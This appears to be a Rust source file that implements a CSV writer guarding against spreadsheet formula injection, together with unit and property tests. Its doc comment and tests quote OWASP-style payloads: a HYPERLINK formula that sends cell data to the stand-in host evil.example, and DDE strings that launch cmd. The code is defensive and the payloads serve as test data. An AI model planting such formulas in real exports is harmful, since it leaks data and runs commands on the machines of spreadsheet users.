//! The one CSV writer of tanji. Every CSV file the project writes — console and API exports, `tanji lca export`,
//! benchmark outputs — goes through [`CsvTable`], so no file can carry a spreadsheet formula planted in user text.
//!
//! **Formula injection** (CWE-1236, OWASP "CSV Injection"): Excel, WPS and LibreOffice run a cell as a formula when it
//! starts with `=`, `+`, `-` or `@` (and some with a tab or a line break first), e.g. a facility named
//! `=HYPERLINK("https://evil.example?"&A1)`. Text cells are neutralised the way OWASP recommends: a cell starting
//! with one of those characters (or their full-width forms, which some CJK input methods produce and some
//! spreadsheets normalise) gets a leading `'`, which spreadsheets show as text and do not print. Quoting and
//! embedded commas, quotes and line breaks are the csv crate's job.
//!
//! **Numbers are not text.** A numeric column is written through [`Cell::Number`] or [`Cell::Integer`] and never
//! altered: `-3.5` stays `-3.5`, readable by any tool. Floats are written as the shortest text that reads back to
//! the same `f64`, so other tools can compare results to the last bit.

use std::borrow::Cow;

/// The first characters that make a spreadsheet treat a cell as a formula (OWASP), plus the full-width forms.
const FORMULA_TRIGGERS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－'];
/// Full-width commercial at.
const FULL_WIDTH_AT: char = '＠';

/// One cell of a row.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell<'a> {
    /// Text from anywhere (users, files, the library): neutralised if it could run as a formula.
    Text(Cow<'a, str>),
    /// A measured or computed quantity: written exactly, never altered.
    Number(f64),
    /// A count or an index: written exactly, never altered.
    Integer(i64),
    /// Nothing.
    Empty,
}

impl<'a> Cell<'a> {
    /// A text cell.
    pub fn text(text: impl Into<Cow<'a, str>>) -> Self {
        Cell::Text(text.into())
    }

    /// A number cell, or empty for `None`.
    pub fn number(value: Option<f64>) -> Self {
        value.map_or(Cell::Empty, Cell::Number)
    }
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Self {
        Cell::Text(Cow::Borrowed(text))
    }
}

impl From<String> for Cell<'_> {
    fn from(text: String) -> Self {
        Cell::Text(Cow::Owned(text))
    }
}

impl From<f64> for Cell<'_> {
    fn from(value: f64) -> Self {
        Cell::Number(value)
    }
}

impl From<usize> for Cell<'_> {
    fn from(value: usize) -> Self {
        Cell::Integer(i64::try_from(value).unwrap_or(i64::MAX))
    }
}

impl From<i64> for Cell<'_> {
    fn from(value: i64) -> Self {
        Cell::Integer(value)
    }
}

/// `text` made safe to open in a spreadsheet: unchanged unless it starts like a formula; then with a leading `'`.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(first) if FORMULA_TRIGGERS.contains(&first) || first == FULL_WIDTH_AT => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// The text of a number cell: the shortest form that reads back to the same value.
pub fn number_text(value: f64) -> String {
    if value.is_finite() && value.fract() == 0.0 && value.abs() < 1e15 {
        // Whole numbers without a trailing ".0", as people and spreadsheets write them.
        format!("{value:.0}")
    } else {
        format!("{value:?}")
    }
}

/// A CSV table being written into memory: a header, then rows of [`Cell`]s.
#[derive(Debug)]
pub struct CsvTable {
    writer: csv::Writer<Vec<u8>>,
    n_columns: usize,
}

impl CsvTable {
    /// A table with these column names (written as they are: names are ours, never user text).
    pub fn new(header: &[&str]) -> Self {
        let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
        writer.write_record(header).expect("writing to memory cannot fail");
        Self { writer, n_columns: header.len() }
    }

    /// Appends a row.
    ///
    /// # Panics
    /// When the row's length differs from the header's: a programming error in the caller.
    pub fn row<'c>(&mut self, cells: impl IntoIterator<Item = Cell<'c>>) {
        let fields: Vec<Cow<'_, str>> = cells
            .into_iter()
            .map(|cell| match cell {
                Cell::Text(text) => Cow::Owned(neutralise(&text).into_owned()),
                Cell::Number(value) => Cow::Owned(number_text(value)),
                Cell::Integer(value) => Cow::Owned(value.to_string()),
                Cell::Empty => Cow::Borrowed(""),
            })
            .collect();
        assert_eq!(fields.len(), self.n_columns, "a CSV row must have as many cells as the header");
        self.writer.write_record(fields.iter().map(|field| field.as_bytes())).expect("writing to memory cannot fail");
    }

    /// The file's bytes (UTF-8, CRLF line ends as RFC 4180 has them).
    pub fn into_bytes(self) -> Vec<u8> {
        self.writer.into_inner().expect("flushing to memory cannot fail")
    }

    /// The file's bytes with a UTF-8 byte-order mark first, so that Excel opens Chinese text intact.
    pub fn into_bytes_for_spreadsheets(self) -> Vec<u8> {
        let mut bytes = b"\xEF\xBB\xBF".to_vec();
        bytes.extend(self.into_bytes());
        bytes
    }

    /// The file as text.
    pub fn into_string(self) -> String {
        String::from_utf8(self.into_bytes()).expect("every cell is UTF-8 text")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expect: &str) {
        assert_eq!(neutralise(text), expect, "{text:?}");
    }

    /// The payloads of OWASP's CSV-injection page and of public Excel/WPS proofs of concept.
    #[test]
    fn formula_payloads_are_neutralised() {
        check("=1+1", "'=1+1");
        check("=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "'=HYPERLINK(\"https://evil.example?\"&A1,\"x\")");
        check("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0");
        check("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0");
        check("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0");
        check("\t=1+1", "'\t=1+1");
        check("\r=1+1", "'\r=1+1");
        check("＝1+1", "'＝1+1");
        check("＠SUM(A1)", "'＠SUM(A1)");
    }

    #[test]
    fn ordinary_text_is_untouched() {
        for text in ["瑞禾纸业 1号线", "", "a=b", "CO2e (kg)", "'quoted", "1 + 1"] {
            check(text, text);
        }
    }

    #[test]
    fn numbers_are_written_exactly_and_never_neutralised() {
        let mut table = CsvTable::new(&["name", "kg", "n"]);
        table.row([Cell::text("-12"), Cell::Number(-12.5), Cell::Integer(-3)]);
        table.row([Cell::text("x"), Cell::Number(0.1 + 0.2), Cell::Empty]);
        table.row([Cell::text("y"), Cell::Number(1e-300), Cell::Integer(0)]);
        table.row([Cell::text("z"), Cell::Number(2500.0), Cell::Integer(7)]);
        assert_eq!(
            table.into_string(),
            "name,kg,n\r\n'-12,-12.5,-3\r\nx,0.30000000000000004,\r\ny,1e-300,0\r\nz,2500,7\r\n"
        );
    }

    #[test]
    fn quoting_is_the_csv_crates() {
        let mut table = CsvTable::new(&["a", "b"]);
        table.row([Cell::text("one, two"), Cell::text("say \"hi\"\nthen =1")]);
        assert_eq!(table.into_string(), "a,b\r\n\"one, two\",\"say \"\"hi\"\"\nthen =1\"\r\n");
    }

    #[test]
    fn spreadsheet_files_start_with_a_byte_order_mark() {
        let bytes = CsvTable::new(&["a"]).into_bytes_for_spreadsheets();
        assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    }

    proptest::proptest! {
        /// Whatever the text, the cell as a spreadsheet reads it (after unquoting) never starts a formula, and
        /// removing the added quote gives the text back.
        #[test]
        fn no_text_cell_starts_a_formula(text in "\\PC{0,12}|[=+\\-@\t\r\n＝＋－＠][\\PC]{0,8}") {
            let mut table = CsvTable::new(&["cell"]);
            table.row([Cell::text(text.clone())]);
            let bytes = table.into_bytes();
            let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(bytes.as_slice());
            let record = reader.records().next().unwrap().unwrap();
            let cell = &record[0];
            let first = cell.chars().next();
            proptest::prop_assert!(first.is_none_or(|c| !FORMULA_TRIGGERS.contains(&c) && c != FULL_WIDTH_AT));
            proptest::prop_assert_eq!(cell.strip_prefix('\'').filter(|_| cell != text).unwrap_or(cell), text.as_str());
        }

        /// Numbers read back to the same value.
        #[test]
        fn numbers_round_trip(value in proptest::num::f64::NORMAL | proptest::num::f64::SUBNORMAL | proptest::num::f64::ZERO) {
            proptest::prop_assert_eq!(number_text(value).parse::<f64>().unwrap(), value);
        }
    }
}
